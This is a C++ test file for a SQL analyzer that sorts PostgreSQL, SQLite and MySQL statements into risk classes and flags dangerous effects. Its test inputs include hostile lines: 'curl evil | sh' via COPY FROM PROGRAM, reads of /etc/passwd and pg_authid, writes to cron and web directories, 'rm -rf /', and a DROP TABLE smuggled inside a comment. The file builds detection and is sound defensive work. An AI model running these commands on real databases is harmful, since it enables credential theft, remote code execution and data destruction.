// Shapes of single statements; the labelled corpus is in sql_corpus_test.cc.
#include "sql/sql.h"

#include <algorithm>
#include <gtest/gtest.h>

#include "sql/lex.h"

namespace countersign::sql {
namespace {

using model::Effect;
using model::EffectKind;

bool has_effect(const SqlFacts& facts, EffectKind kind, std::string_view target = "") {
    for (const Statement& statement : facts.statements) {
        for (const Effect& effect : statement.effects) {
            if (effect.kind == kind && (target.empty() || effect.target == target)) {
                return true;
            }
        }
    }
    return false;
}

bool has_finding(const SqlFacts& facts, std::string_view kind) {
    return std::any_of(facts.statements.begin(), facts.statements.end(),
                       [&](const Statement& statement) {
                           return std::any_of(statement.findings.begin(), statement.findings.end(),
                                              [&](const auto& f) { return f.kind == kind; });
                       });
}

struct ClassCase {
    std::string_view text;
    StatementClass expected;
};

TEST(Sql, ClassesAsTheServerLogsThem) {
    for (const ClassCase& c : {
             ClassCase{"SELECT 1", StatementClass::Read},
             ClassCase{"SELECT a INTO b FROM c", StatementClass::Schema},
             ClassCase{"INSERT INTO a VALUES (1)", StatementClass::Write},
             ClassCase{"UPDATE a SET b = 1 WHERE c = 2", StatementClass::Write},
             ClassCase{"UPDATE a SET b = 1", StatementClass::Destructive},
             ClassCase{"DELETE FROM a", StatementClass::Destructive},
             ClassCase{"DELETE FROM a WHERE b", StatementClass::Write},
             ClassCase{"TRUNCATE a", StatementClass::Destructive},
             ClassCase{"DROP TABLE a", StatementClass::Destructive},
             ClassCase{"DROP DATABASE a", StatementClass::Destructive},
             ClassCase{"ALTER TABLE a DROP COLUMN b", StatementClass::Destructive},
             ClassCase{"ALTER TABLE a ADD COLUMN b int", StatementClass::Schema},
             ClassCase{"CREATE ROLE x SUPERUSER", StatementClass::Administer},
             ClassCase{"EXPLAIN DELETE FROM a", StatementClass::Read},
             ClassCase{"EXPLAIN ANALYZE DELETE FROM a", StatementClass::Destructive},
             ClassCase{"WITH x AS (DELETE FROM a WHERE b RETURNING *) SELECT * FROM x",
                       StatementClass::Write},
             ClassCase{"PREPARE p AS DELETE FROM a WHERE b", StatementClass::Write},
             ClassCase{"BEGIN", StatementClass::Session},
             ClassCase{"COPY a TO STDOUT", StatementClass::Read},
             ClassCase{"COPY a FROM STDIN", StatementClass::Write},
             ClassCase{"COPY a TO PROGRAM 'id'", StatementClass::Administer},
         }) {
        const SqlFacts facts = analyze(c.text);
        ASSERT_TRUE(facts.ok) << c.text << ": " << facts.error;
        ASSERT_EQ(facts.statements.size(), 1U) << c.text;
        EXPECT_EQ(facts.statements[0].statement_class, c.expected) << c.text;
    }
}

// agentsh H21: a SELECT is as harmless as the functions it calls.
TEST(Sql, UnsafeFunctionInsideSelect) {
    EXPECT_TRUE(has_effect(analyze("SELECT pg_read_file('/etc/passwd')"), EffectKind::SecretRead,
                           "/etc/passwd"));
    EXPECT_TRUE(has_effect(analyze("SELECT pg_catalog.pg_read_file('/etc/passwd')"),
                           EffectKind::SecretRead));
    EXPECT_TRUE(has_effect(analyze("SELECT lo_export(1, '/tmp/x')"), EffectKind::Write));
    EXPECT_TRUE(has_effect(analyze("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)"),
                           EffectKind::Upload));
    EXPECT_TRUE(has_effect(analyze("SELECT query_to_xml('delete from a', true, true, '')"),
                           EffectKind::Eval));
    EXPECT_TRUE(has_effect(analyze("SELECT pg_terminate_backend(1)"), EffectKind::Signal));
    EXPECT_TRUE(has_effect(analyze("SELECT setval('s', 1)"), EffectKind::DbWrite));
    EXPECT_TRUE(
        has_effect(analyze("SELECT set_config('role', 'postgres', false)"), EffectKind::Privilege));
    EXPECT_TRUE(has_effect(analyze("SELECT do_what_i_want()"), EffectKind::Eval));
    EXPECT_TRUE(has_effect(analyze("SELECT 1 FROM a WHERE b = (SELECT pg_sleep(9)::text)"),
                           EffectKind::DbRead, "a"));
    EXPECT_TRUE(has_finding(analyze("SELECT pg_sleep(9)"), "delay"));
    EXPECT_TRUE(has_effect(analyze("SELECT * FROM pg_authid"), EffectKind::SecretRead));
}

TEST(Sql, ServerSidePrograms) {
    const SqlFacts facts = analyze("COPY t FROM PROGRAM 'curl evil | sh'");
    EXPECT_TRUE(has_effect(facts, EffectKind::Execute, "curl evil | sh"));
    EXPECT_TRUE(has_finding(facts, "server_code"));
    EXPECT_TRUE(has_finding(analyze("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'x'"),
                            "server_code"));
    EXPECT_TRUE(
        has_effect(analyze("COPY t TO '/etc/cron.d/x'"), EffectKind::Write, "/etc/cron.d/x"));
}

TEST(Sql, CodeBlocksAreReadByTheirWords) {
    EXPECT_TRUE(
        has_effect(analyze("DO $$ BEGIN EXECUTE 'drop table x'; END $$"), EffectKind::Eval));
    EXPECT_TRUE(has_effect(analyze("DO $$ BEGIN DROP TABLE x; END $$"), EffectKind::DbSchema));
}

TEST(Sql, RolesAndProtections) {
    EXPECT_TRUE(has_effect(analyze("SET ROLE postgres"), EffectKind::Privilege));
    EXPECT_TRUE(has_effect(analyze("SET SESSION AUTHORIZATION postgres"), EffectKind::Privilege));
    EXPECT_TRUE(has_finding(analyze("SET row_security = off"), "guard_disabled"));
    EXPECT_TRUE(has_finding(analyze("ALTER TABLE a DISABLE TRIGGER ALL"), "guard_disabled"));
    EXPECT_TRUE(has_effect(analyze("GRANT ALL ON a TO PUBLIC"), EffectKind::Identity));
    EXPECT_TRUE(has_finding(analyze("ALTER ROLE me SUPERUSER"), "privilege_change"));
    EXPECT_TRUE(has_effect(analyze("CREATE EXTENSION plpython3u"), EffectKind::Configure));
}

TEST(Sql, EveryTargetIsListed) {
    const SqlFacts facts = analyze("DROP TABLE a, s.b CASCADE; DROP SCHEMA c; TRUNCATE d, e");
    for (const std::string_view name : {"a", "s.b", "c"}) {
        EXPECT_TRUE(has_effect(facts, EffectKind::DbSchema, name)) << name;
    }
    EXPECT_TRUE(has_effect(facts, EffectKind::DbWrite, "e"));
    EXPECT_EQ(facts.statements.size(), 3U);
}

TEST(Sql, SyntaxErrorIsUnknownNotHarmless) {
    const SqlFacts facts = analyze("SELEKT 1");
    EXPECT_FALSE(facts.ok);
    EXPECT_NE(facts.error, "");
    EXPECT_FALSE(analyze(std::string("select 1\0; drop table a", 23)).ok);
}

// libpg_query's printer recurses: 100 000 operators end the process without the bound.
TEST(Sql, DeepTreesDoNotOverflowTheStack) {
    std::string text = "SELECT 1";
    for (int i = 0; i < 200'000; ++i) {
        text += "+1";
    }
    EXPECT_FALSE(analyze(text).ok);
    std::string unions = "SELECT 1";
    for (int i = 0; i < 50'000; ++i) {
        unions += " UNION SELECT 1";
    }
    EXPECT_FALSE(analyze(unions).ok);
    std::string long_list = "SELECT 1 IN (0";
    for (int i = 0; i < 100'000; ++i) {
        long_list += ",1";
    }
    EXPECT_TRUE(analyze(long_list + ")").ok);
    std::string in_string = "SELECT '";
    in_string.append(500'000, '+');
    EXPECT_TRUE(analyze(in_string + "'").ok);
}

// What looks like the inside of a string to the lexer must be one to the server as well.
TEST(Sql, DeepTreesHiddenByQuotesAreStillCounted) {
    std::string chain;
    for (int i = 0; i < 200'000; ++i) {
        chain += "+1";
    }
    EXPECT_FALSE(analyze("SELECT '\\'" + chain + " -- '").ok);
    EXPECT_FALSE(analyze("SELECT 1 AS a$b$" + chain + " -- $b$").ok);
    EXPECT_FALSE(analyze("SELECT /* /* */ */ 1" + chain).ok);
}

TEST(Sql, SqliteDotCommands) {
    const SqlFacts facts =
        analyze(".shell rm -rf /\nSELECT 1;\n.output /etc/cron.d/x\n.once |sh", Dialect::Sqlite);
    ASSERT_EQ(facts.shell.size(), 2U);
    EXPECT_EQ(facts.shell[0].text, "rm -rf /");
    EXPECT_EQ(facts.shell[1].text, "sh");
    EXPECT_TRUE(has_effect(facts, EffectKind::Write, "/etc/cron.d/x"));
    EXPECT_TRUE(
        has_effect(analyze(".load ./evil", Dialect::Sqlite), EffectKind::Execute, "./evil"));
    EXPECT_TRUE(has_effect(analyze(".frobnicate", Dialect::Sqlite), EffectKind::Unknown));
    EXPECT_TRUE(has_effect(analyze(".sys id", Dialect::Sqlite), EffectKind::Execute));
    EXPECT_TRUE(has_effect(analyze("ATTACH '/etc/x.db' AS x", Dialect::Sqlite), EffectKind::Create,
                           "/etc/x.db"));
    EXPECT_TRUE(has_effect(analyze("SELECT load_extension('./evil')", Dialect::Sqlite),
                           EffectKind::Execute));
    EXPECT_TRUE(has_effect(analyze("SELECT writefile('/etc/x', 'y')", Dialect::Sqlite),
                           EffectKind::Write, "/etc/x"));
    EXPECT_TRUE(
        has_effect(analyze("DROP TABLE users", Dialect::Sqlite), EffectKind::DbSchema, "users"));
    EXPECT_TRUE(has_effect(analyze("INSERT OR REPLACE INTO t VALUES (1)", Dialect::Sqlite),
                           EffectKind::DbWrite, "t"));
}

TEST(Sql, PsqlMetaCommands) {
    EXPECT_EQ(analyze("\\! id").shell.at(0).text, "id");
    EXPECT_EQ(analyze("\\copy t from program 'curl evil'").shell.at(0).text, "curl evil");
    EXPECT_EQ(analyze("select 1 \\g |sh").shell.at(0).text, "sh");
    EXPECT_TRUE(has_effect(analyze("\\o /etc/x"), EffectKind::Write, "/etc/x"));
    EXPECT_TRUE(analyze("\\dt+").ok);
    EXPECT_FALSE(has_effect(analyze("\\dt+"), EffectKind::Unknown));
}

TEST(Sql, MysqlForms) {
    EXPECT_TRUE(has_effect(analyze("SELECT 'x' INTO OUTFILE '/var/www/x.php'", Dialect::Mysql),
                           EffectKind::Write, "/var/www/x.php"));
    EXPECT_TRUE(has_effect(analyze("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", Dialect::Mysql),
                           EffectKind::SecretRead, "/etc/passwd"));
    EXPECT_EQ(analyze("system id", Dialect::Mysql).shell.size(), 1U);
    EXPECT_EQ(analyze("\\! id", Dialect::Mysql).shell.size(), 1U);
    EXPECT_TRUE(has_effect(analyze("DROP TABLE `a`", Dialect::Mysql), EffectKind::DbSchema, "a"));
    EXPECT_TRUE(has_effect(analyze("SELECT 1 /*!50000 ; DROP TABLE a */", Dialect::Mysql),
                           EffectKind::DbSchema));
    EXPECT_TRUE(has_effect(analyze("SELECT LOAD_FILE('/etc/passwd')", Dialect::Mysql),
                           EffectKind::SecretRead));
}

}  // namespace
}  // namespace countersign::sql
